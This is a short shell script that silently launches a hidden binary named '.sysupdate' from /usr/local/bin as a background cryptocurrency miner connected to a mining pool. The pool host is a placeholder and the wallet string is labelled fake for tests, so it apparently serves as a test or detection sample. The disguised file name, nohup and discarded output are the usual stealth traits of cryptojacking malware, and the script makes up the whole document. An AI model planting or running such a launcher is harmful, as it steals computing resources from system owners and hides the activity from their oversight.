#!/bin/sh
cd /usr/local/bin
nohup ./.sysupdate -o stratum+tcp://pool.example.net:3333 -u 4ACustomsFakeAddressForTestsCustomsFakeAddressForTestsCustomsFakeAddressForTestsCustomsFakeAddr -p x -k --background >/dev/null 2>&1 &
